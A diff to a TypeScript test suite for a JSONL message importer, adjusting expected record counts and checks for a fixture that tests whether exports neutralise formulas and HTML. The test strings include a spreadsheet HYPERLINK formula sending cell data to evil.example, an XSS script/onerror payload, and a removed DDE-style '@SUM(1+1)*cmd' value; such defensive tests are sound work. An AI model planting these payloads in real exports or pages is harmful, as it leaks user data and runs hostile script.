@@ -175,8 +175,8 @@ const CASES: readonly Case[] = [
     file: 'w21-wrong-types.jsonl',
     must: 'no crash; 9 records kept or reported, 5 lines reported',
     check({ report, messages }) {
-      expect(report).toMatchObject({ read: 14, loaded: 6, undecodable: 5, withheld: { unknown: 3 } });
-      expect(messages.map((message) => message.text)).toEqual(['裸字符串', '', '', '第7条', '第8条', 'a\nb']);
+      expect(report).toMatchObject({ read: 14, loaded: 5, undecodable: 5, withheld: { unknown: 4 } });
+      expect(messages.map((message) => message.text)).toEqual(['裸字符串', '', '', '第8条', 'a\nb']);
     },
   },
   {
@@ -184,9 +184,10 @@ const CASES: readonly Case[] = [
     file: 'w23-formula-html-bidi.jsonl',
     must: 'exports neutralise formulas and HTML: here the text is kept as it is',
     check({ report, messages }) {
-      expect(report.loaded).toBe(8);
+      // The eighth is talk with somebody outside (`_external`) and names no customer.
+      expect(report).toMatchObject({ loaded: 7, withheld: { unknown: 1 } });
+      expect(messages[0]?.text).toBe('=HYPERLINK("http://evil.example/?x="&A1,"click")');
       expect(messages[2]?.text).toBe('<img src=x onerror=alert(1)><script>alert(2)</script>');
-      expect(messages[7]?.sender.sourceId).toBe('@SUM(1+1)*cmd');
     },
   },
   {
